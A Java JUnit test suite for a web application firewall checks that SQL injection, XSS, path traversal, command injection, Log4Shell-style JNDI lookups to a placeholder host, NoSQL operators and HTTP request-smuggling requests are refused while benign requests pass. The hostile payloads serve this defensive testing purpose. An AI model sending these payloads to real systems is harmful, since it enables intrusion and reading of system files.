package com.petmatch.security.servlet;

import static org.assertj.core.api.Assertions.assertThat;

import com.petmatch.security.access.AccessPolicy;
import com.petmatch.security.address.ClientAddressResolver;
import com.petmatch.security.firewall.Firewall;
import com.petmatch.security.firewall.FirewallControl;
import com.petmatch.security.firewall.LiveFirewall;
import com.petmatch.security.limit.LimitRule;
import com.petmatch.security.limit.LocalLimits;
import com.petmatch.security.pipeline.PipelineBuilder;
import com.petmatch.security.pipeline.SecurityPipeline;
import com.petmatch.security.request.Canonicalizer;
import com.petmatch.security.request.RequestLimits;
import com.petmatch.security.request.Route;
import com.petmatch.security.request.Route.Mark;
import com.petmatch.security.request.RouteTable;
import java.io.IOException;
import java.time.Instant;
import java.time.InstantSource;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestInstance.Lifecycle;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Hostile values in every place of a request, and requests that two readers would take for two, on a real server. */
@TestInstance(Lifecycle.PER_CLASS)
abstract class FirewallAttackSuite {

    private static final String FORM = "Content-Type: application/x-www-form-urlencoded";
    private static final String JSON = "Content-Type: application/json";
    private static final String MULTIPART = "Content-Type: multipart/form-data; boundary=b";

    private final RunningHost.Starter server;
    private RunningHost host;

    FirewallAttackSuite(RunningHost.Starter server) {
        this.server = server;
    }

    @BeforeAll
    void start() throws Exception {
        LimitRule wide = LimitRule.perMinute("wide", 100_000);
        RouteTable routes = RouteTable.of(List.of(
                Route.get("/search").open().build(),
                Route.get("/pets/{name}").open().build(),
                open("/form").build(),
                open("/parts").build(),
                open("/upload").maxBodyBytes(1 << 20).build(),
                open("/hooks/{provider}").mark(Mark.RAW_BODY).build(),
                open("/photo").mark(Mark.UPLOAD).build()));
        PipelineBuilder builder = SecurityPipeline.builder(routes)
                .canonicalizer(Canonicalizer.forAnyHost(RequestLimits.standard()))
                .addresses(ClientAddressResolver.peer())
                .limits(LocalLimits.ofCapacity(1_000))
                .limitRules(wide, wide, wide)
                .access(AccessPolicy.builder().build())
                .clock(InstantSource.fixed(Instant.parse("2026-03-01T10:00:00Z")));
        FirewallControl.install(builder, new LiveFirewall(Firewall.builder().build()));
        host = server.start("", SecurityFilter.of(builder.build()), new EchoServlet());
    }

    private static Route.Builder open(String path) {
        return Route.post(path).open().csrfNever().mark(Mark.API);
    }

    @AfterAll
    void stop() throws Exception {
        host.close();
    }

    @ParameterizedTest
    @Tag("row-48")
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "GET /search?q=1%27%20OR%20%271%27=%271        | X-A: b",
                "GET /search?q=1%2527%2520OR%2520%25271%2527%253D%25271 | X-A: b",
                "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E | X-A: b",
                "GET /search?q=%u003cscript%u003ealert(1)%u003c/script%u003e | X-A: b",
                "GET /search?file=..%25252f..%25252f..%25252fetc%25252fpasswd | X-A: b",
                "GET /pets/1'%20UNION%20SELECT%20password%20FROM%20users--%20 | X-A: b",
                "GET /search                                      | User-Agent: ${jndi:ldap://probe.example/a}",
                "GET /search                                      | User-Agent: sqlmap/1.8.2#stable (https://sqlmap.org)",
                "GET /search                                      | Referer: https://pets.example/?q=<script>alert(1)</script>",
                "GET /search                                      | Cookie: theme=1' OR '1'='1"
            })
    void aHeadWithAHostileValueIsRefused(String line, String field) throws IOException {
        assertThat(host.raw(line.strip() + " HTTP/1.1\r\nHost: a\r\nConnection: close\r\n" + field + "\r\n\r\n"))
                .containsPattern("^HTTP/1.1 40[03]");
    }

    @ParameterizedTest
    @Tag("row-48")
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "/form   | name=Rex%27;DROP%20TABLE%20pets;--",
                "/form   | name=%253Csvg/onload=alert(1)%253E",
                "/form   | name=;cat%20/etc/passwd",
                "/form   | a=1&a=..%2f..%2f..%2fetc%2fpasswd"
            })
    void aFormWithAHostileValueIsRefused(String path, String form) throws IOException {
        assertThat(post(path, FORM, form).status()).isEqualTo(403);
    }

    @ParameterizedTest
    @Tag("row-48")
    @ValueSource(
            strings = {
                "{\"name\":\"1' OR '1'='1\"}",
                "{\"name\":\"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e\"}",
                "{\"pet\":{\"tags\":[\"a\",\"$(cat /etc/passwd)\"]}}",
                "{\"login\":{\"$ne\":null}}",
                "{\"note\":\"JHtqbmRpOmxkYXA6Ly9wcm9iZS5leGFtcGxlL2F9\"}"
            })
    void aDocumentWithAHostileValueIsRefused(String json) throws IOException {
        assertThat(post("/upload", JSON, json).status()).isEqualTo(403);
    }

    @Test
    @Tag("row-48")
    void aPartOrANameOfAFileIsAValueToo() throws IOException {
        assertThat(post("/parts", MULTIPART, part("name\"", "<script>alert(1)</script>"))
                        .status())
                .isEqualTo(403);
        assertThat(post("/parts", MULTIPART, part("f\"; filename=\"../../../etc/passwd\"", "x"))
                        .status())
                .isEqualTo(403);
        assertThat(post("/parts", MULTIPART, part("name\"", "Rex O'Brien")).status())
                .isEqualTo(200);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "GET /search?q=O%27Brien%20%26%20Sons",
                "GET /search?q=select%20the%20best%20and%20drop%20the%20rest",
                "GET /search?q=%3C3%20Rex",
                "GET /pets/L'Or%C3%A9al"
            })
    void honestRequestsPass(String line) throws IOException {
        assertThat(host.raw(line + " HTTP/1.1\r\nHost: a\r\nConnection: close\r\nUser-Agent: Mozilla/5.0\r\n\r\n"))
                .startsWith("HTTP/1.1 200");
    }

    @Test
    void honestBodiesPassAndWebhooksAndFilesAreNotReadAtAll() throws IOException {
        assertThat(post("/form", FORM, "name=O%27Brien").body()).contains("O'Brien");
        assertThat(post("/upload", JSON, "{\"name\":\"Rex & Söhne\"}").status()).isEqualTo(200);
        assertThat(post("/hooks/stripe", JSON, "{\"name\":\"1' OR '1'='1\"}").status())
                .isEqualTo(200);
        assertThat(post("/photo", "Content-Type: image/png", "<script>alert(1)</script>")
                        .status())
                .isEqualTo(200);
    }

    @Test
    @Tag("row-50")
    void anAttackBehindPaddingIsNotMissedButTooLong() throws IOException {
        String padded = "{\"a\":\"" + "x".repeat(200_000) + "\",\"b\":\"1' OR '1'='1\"}";

        assertThat(post("/upload", JSON, padded).status()).isEqualTo(413);
        assertThat(post("/upload", JSON + "\r\nContent-Encoding: gzip", "{}").status())
                .isEqualTo(415);
    }

    @ParameterizedTest
    @Tag("row-50")
    @ValueSource(
            strings = {
                "Content-Type: application/json; charset=utf-16",
                "Content-Type: application/json; charset=ibm037",
                "Content-Type: application/json; charset=utf-7"
            })
    void aDocumentInAnotherCharsetIsNotTakenForWhatItLooksLike(String type) throws IOException {
        assertThat(post("/upload", type, "{\"name\":\"+ADw-script+AD4-alert(1)+ADw-/script+AD4-\"}")
                        .status())
                .isIn(400, 403, 415);
    }

    @ParameterizedTest
    @Tag("row-51")
    @ValueSource(
            strings = {
                "GET /search HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
                "GET /search HTTP/1.1\r\nHost: a\r\nX-A : b\r\n\r\n",
                "GET /search HTTP/1.1\r\nHost: a\r\nX-A: b\u0000c\r\n\r\n",
                "POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab",
                "POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: +1\r\n\r\na",
                "POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: -1\r\n\r\na",
                "POST /upload HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n\r\n"
            })
    void signsOfSmugglingEndTheConnectionUnserved(String request) throws IOException {
        // Reads until the server closes: a connection left open would end in a time-out.
        assertThat(host.raw(request)).startsWith("HTTP/1.1 4").doesNotContain("HTTP/1.1 200");
    }

    /** Tomcat reads such a request by its chunks and closes, as RFC 9112 §6.3 lets it; nothing behind it is served. */
    @Test
    @Tag("row-51")
    void lengthAndChunksAreOneRequestAtMost() throws IOException {
        String answers =
                host.raw("POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
                        + "0\r\n\r\nGET /search?q=smuggled HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n");

        assertThat(answers.split("HTTP/1\\.1 ", -1)).hasSize(2);
    }

    private Answer post(String path, String type, String body) throws IOException {
        return Answer.of(host.raw("POST " + path + " HTTP/1.1\r\nHost: a\r\nConnection: close\r\n" + type
                + "\r\nContent-Length: " + body.length() + "\r\n\r\n" + body));
    }

    private static String part(String disposition, String content) {
        return "--b\r\nContent-Disposition: form-data; name=\"" + disposition + "\r\n\r\n" + content + "\r\n--b--\r\n";
    }
}
